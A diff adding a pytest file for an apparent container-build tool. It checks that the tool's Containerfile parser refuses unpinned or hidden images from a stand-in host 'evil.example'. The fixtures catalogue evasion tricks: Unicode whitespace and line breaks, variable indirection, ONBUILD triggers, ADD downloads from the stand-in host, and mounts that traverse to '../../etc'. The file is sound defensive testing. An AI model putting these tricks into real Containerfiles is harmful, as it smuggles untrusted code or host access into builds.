@@ -1,0 +1,166 @@
+"""Attacks by Containerfiles: an image that the check of pins does not see, or a way to the host."""
+
+from pathlib import Path
+
+import pytest
+
+from imagekit.adapters.buildah import Buildah
+from imagekit.adapters.process import Runner
+from imagekit.errors import BuildError, RecipeError
+from imagekit.formats.containerfile import render
+from imagekit.formats.report import Report
+from imagekit.model.place import Place
+from imagekit.model.plan import Store
+from imagekit.model.recipe import Stage
+from imagekit.recipe import load
+from imagekit.recipe.containerfile import read_containerfile, read_triggers
+
+EVIL = "evil.example/x:1"
+HEX = "ab" * 32
+PINNED = f"r.example/base@sha256:{HEX}"
+
+HIDDEN = {
+    "no-break space behind a backslash": f"FROM scratch\nRUN x \\\u00a0\nFROM {EVIL}\n",
+    "vertical tab behind a backslash": f"FROM scratch\nRUN x \\\v\nFROM {EVIL}\n",
+    "no-break space before": f"FROM scratch\n\u00a0FROM {EVIL}\n",
+    "em space before": f"FROM scratch\n\u2003FROM {EVIL}\n",
+    "byte order mark before an escape": f"\ufeff# escape=`\nFROM scratch\nCMD a \\\nFROM {EVIL}\n",
+    "escape behind a syntax": f"# syntax=x\n# escape=`\nFROM scratch\nCMD a \\\nFROM {EVIL}\n",
+    "carriage return": f"FROM scratch\rFROM {EVIL}\n",
+    "carriage return behind a backslash": f"FROM scratch\nRUN x \\\r\r\nFROM {EVIL}\n",
+    "next line": f"FROM scratch\u0085FROM {EVIL}\n",
+    "line separator": f"FROM scratch\nRUN x \\\u2028\nFROM {EVIL}\n",
+    "form feed": f"FROM scratch\nRUN x \\\f\nFROM {EVIL}\n",
+    "nul": f"FROM scratch\0\nFROM {EVIL}\n",
+    "backslash at the end of a joined line": f"FROM scratch\nRUN x \\\\\n\nFROM {EVIL}\n",
+    "here-document": f"FROM scratch\nRUN <<EOF\nEOF\nFROM {EVIL}\n",
+    "quoted here-document": f"FROM scratch\nRUN 'a' <<EOF\nx\nFROM {EVIL}\n",
+    "here-document in quotes": f"FROM scratch\nRUN ' <<EOF '\nFROM {EVIL}\nEOF\n",
+    "variable": f"ARG X={EVIL}\nFROM $X\n",
+    "nested variable": f"ARG A={EVIL}\nARG B=${{A}}\nFROM ${{C:-$B}}\n",
+    "second on the line": f"ARG A=1 B={EVIL}\nFROM $B\n",
+    "set, so other": f"ARG A=1\nFROM ${{A:+{EVIL}}}\n",
+    "quotes": f'FROM "{EVIL}"\n',
+    "escaped": f"FROM \\{EVIL}\n",
+    "unused stage": f"FROM {EVIL} AS a\nFROM scratch\n",
+    "own name": f"FROM {EVIL} AS evil\nCOPY --from=evil /a /a\n",
+    "later stage": "FROM scratch\nCOPY --from=later /a /a\nFROM scratch AS later\n",
+    "own stage": "FROM scratch AS own\nCOPY --from=own /a /a\n",
+    "stage called like an image": f"FROM scratch AS {EVIL}\nFROM {EVIL}\n",
+    "copy by a variable": f"FROM scratch\nARG X={EVIL}\nCOPY --from=$X /a /a\n",
+    "copy with an option in quotes": f"FROM scratch\nCOPY --chown='1' --from={EVIL} /a /a\n",
+    "copy with a variable option": f"FROM scratch\nARG X=from={EVIL}\nCOPY --$X /a /a\n",
+    "copy twice": f"FROM scratch AS a\nFROM scratch\nCOPY --from=a --from={EVIL} /a /a\n",
+    "mount": f"FROM scratch\nRUN --mount=type=bind,target=/x,from={EVIL} ls\n",
+    "second mount": f"FROM scratch\nRUN --mount=target=/y --mount=from={EVIL},target=/x a\n",
+    "mount by a variable": f"FROM scratch\nARG X=/a,from={EVIL}\nRUN --mount=target=$X a\n",
+    "mount of a variable": f"FROM scratch\nENV X=/a,from={EVIL}\nRUN --mount=target=$X a\n",
+    "onbuild copy": f"FROM scratch\nONBUILD COPY --from={EVIL} /a /a\n",
+    "onbuild from": f"FROM scratch\nONBUILD FROM {EVIL}\n",
+    "onbuild onbuild": f"FROM scratch\nONBUILD ONBUILD COPY --from={EVIL} /a /a\n",
+    "unknown instruction": "FROM scratch\nINCLUDE more\n",
+    "add of the network": "FROM scratch\nADD https://evil.example/x /x\n",
+    "add of a variable": "FROM scratch\nARG X=https://evil.example/x\nADD $X /x\n",
+    "add in a list": 'FROM scratch\nADD ["\\u0068ttps://evil.example/x", "/x"]\n',
+    "add in a list behind a blank": 'FROM scratch\nADD \u00a0["\\u0068ttps:\\/\\/e/x", "/x"]\n',
+    "add escaped": "FROM scratch\nADD ht\\tps://evil.example/x /x\n",
+    "cache out of its folder": "FROM scratch\nRUN --mount=type=cache,id=../../etc,target=/x ls\n",
+    "propagation": "FROM scratch\nRUN --mount=type=bind,target=/x,bind-propagation=rshared ls\n",
+    "source out of the context": "FROM scratch\nRUN --mount=source=../../,target=/x ls\n",
+    "a line too long for Buildah": f"FROM scratch\nRUN {'x' * 66_000}\nFROM scratch\n",
+}
+
+
+@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
+def test_hidden_images_are_found(text: str) -> None:
+    """However it is written, an image without digest is refused, and so is what is unclear."""
+    report = Report("Containerfile", "recipe")
+
+    script = read_containerfile(text.encode(), {}, report)
+
+    assert script is None
+    assert report.failed
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"COPY --from={EVIL} /a /a",
+        f"RUN x\nCOPY --from={EVIL} /a /a",
+        f"FROM {EVIL}",
+        "ADD https://evil.example/x /x",
+        "RUN --mount=type=bind,target=/x ls /x; --from",
+        "RUN --mount=type=bind,source=x,target=/x ls",
+        "RUN <<EOF",
+    ],
+)
+def test_triggers_of_a_base_are_judged(text: str) -> None:
+    """ONBUILD of a base brings no image that nobody judged."""
+    report = Report("Containerfile", "recipe")
+    stage = Stage(number=0, image=PINNED, place=Place("Containerfile", 1, 1))
+
+    steps = read_triggers((text,), stage, report)
+
+    assert report.failed or not any("from" in step.text.split()[1] for step in steps)
+
+
+def test_a_preprocessed_file_is_refused(tmp_path: Path) -> None:
+    """Buildah hands NAME.in to cpp, which includes what it likes."""
+    (tmp_path / "recipe.yaml").write_text(
+        'schema: 1\nname: x\nversion: "1"\ncontainerfile: Containerfile.in\n'
+    )
+    (tmp_path / "Containerfile.in").write_text('FROM scratch\n#include "more"\n')
+
+    with pytest.raises(RecipeError) as caught:
+        load(tmp_path)
+
+    assert [d.code for d in caught.value.diagnostics] == ["recipe/preprocessed"]
+
+
+def test_a_source_of_another_stage_needs_a_safe_buildah() -> None:
+    """Buildah before 1.35.1 follows a link in it out to the host (CVE-2024-1753)."""
+    text = "FROM scratch AS a\nFROM scratch\nRUN --mount=from=a,source=/out,target=/x ls\n"
+
+    script = read_containerfile(text.encode(), {}, Report("Containerfile", "recipe"))
+
+    assert script is not None
+    assert [need.version for need in script.needs] == ["1.35.1"]
+
+
+@pytest.mark.parametrize(
+    ("reported", "good"),
+    [
+        ("STEP 1/2: FROM scratch AS stage0\nSTEP 2/2: COPY a /a\n", True),
+        ("STEP 1/3: FROM scratch AS stage0\nSTEP 2/3: COPY a /a\nSTEP 3/3: RUN b\n", False),
+        ("STEP 1/2: FROM scratch AS stage0\nSTEP 2/2: COPY b /a\n", False),
+        ("STEP 1/2: FROM evil AS stage0\nSTEP 2/2: COPY a /a\n", False),
+        ("STEP 1/2: FROM scratch AS stage0\n", False),
+        ("", False),
+    ],
+)
+def test_buildah_does_the_steps_that_were_judged(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, reported: str, *, good: bool
+) -> None:
+    """What a Buildah reports that reads something else is no image."""
+    (tmp_path / "bin").mkdir()
+    (tmp_path / "said").write_text(reported)
+    program = tmp_path / "bin/buildah"
+    program.write_text(f"#!/bin/sh\ncat {tmp_path}/said; echo sha256:1 > {tmp_path}/iid\n")
+    program.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{tmp_path}/bin:/usr/bin:/bin")
+    script = read_containerfile(b"FROM scratch\nCOPY a /a\n", {}, Report("C", "recipe"))
+    assert script is not None
+    store = Store(graph=tmp_path, run=tmp_path, driver="vfs", isolation="chroot", runtime="runc")
+    buildah = Buildah(runner=Runner(), store=store, work=tmp_path)
+
+    def bud() -> str:
+        rendered = render(script, {})
+        return buildah.bud(
+            rendered, tmp_path, ignore=None, build_args={}, secrets=(), limit=30, epoch=0
+        )
+
+    if good:
+        assert bud() == "sha256:1"
+    else:
+        with pytest.raises(BuildError, match="did not report the step"):
+            bud()
